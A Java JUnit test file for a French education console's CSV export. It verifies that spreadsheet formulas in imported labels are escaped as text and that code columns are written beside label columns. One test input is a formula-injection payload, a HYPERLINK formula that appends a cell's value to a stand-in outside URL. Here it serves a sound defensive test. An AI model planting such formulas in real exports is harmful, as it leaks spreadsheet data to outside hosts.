package fr.education.orion.console;

import static org.assertj.core.api.Assertions.assertThat;

import fr.education.orion.referentiel.Cfd;
import fr.education.orion.referentiel.NiveauDiplome;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.Test;

/**
 * A console's CSV export opened in a spreadsheet: a label of an imported file that reads as a
 * formula stays text, the numbers Orion writes stay numbers, a word keeps its code beside it.
 */
class ExportTest {

  @Test
  void aLabelThatLooksLikeAFormulaIsExportedAsTextAndNumbersStayNumbers() throws IOException {
    LigneFormation ligne =
        ligne("=HYPERLINK(\"https://exemple.invalid/?\"&A1,\"Voir\")", "@SOMME(A1:A9)");
    List<Colonne> colonnes =
        Console.FORMATIONS.colonnes().stream()
            .filter(
                c ->
                    List.of(
                            "libelleFormation",
                            "libelleDispositif",
                            "effectifEntree",
                            "tauxPression")
                        .contains(c.champ()))
            .toList();

    ByteArrayOutputStream sortie = new ByteArrayOutputStream();
    Export.csv(sortie, colonnes, chaque -> chaque.accept(ligne));
    List<String> lignes = sortie.toString(StandardCharsets.UTF_8).lines().toList();

    assertThat(lignes.get(1))
        .isEqualTo(
            "\"'=HYPERLINK(\"\"https://exemple.invalid/?\"\"&A1,\"\"Voir\"\")\";'@SOMME(A1:A9);-12;-0,50");
  }

  @Test
  void anExportWritesTheCodesOfAColumnOfWordsBesideIt() {
    List<Colonne> choisies =
        Console.ETABLISSEMENTS.choisies(
            List.of("uai", "libelleSecteur", "libelleVoie", "libelleDepartement", "voie"));

    assertThat(Console.ETABLISSEMENTS.exportees(choisies))
        .extracting(Colonne::enTete)
        .containsExactly(
            "UAI",
            "Département",
            "Code département",
            "Secteur",
            "Code secteur",
            "Voie",
            "Code voie");
  }

  private static LigneFormation ligne(String libelleFormation, String libelleDispositif) {
    Evolution<BigDecimal> aucun = new Evolution<>(null, null);
    return new LigneFormation(
        "2020",
        new LigneConsole.Formation(
            new Cfd("40022105"),
            "247",
            libelleFormation,
            libelleDispositif,
            new NiveauDiplome("400"),
            "BAC PRO",
            "221",
            "Agro-alimentaire",
            null,
            null,
            null,
            false,
            false,
            false,
            false),
        new LigneConsole.Entree(
            1,
            null,
            null,
            null,
            // Negative figures only to show that a number is never taken for a formula.
            new Evolution<>(-12, null),
            new Evolution<>(null, null),
            null,
            new Evolution<>(new BigDecimal("-0.50"), null),
            aucun,
            aucun),
        "2021_2022",
        new LigneConsole.Sortie(aucun, aucun, aucun),
        null);
  }
}
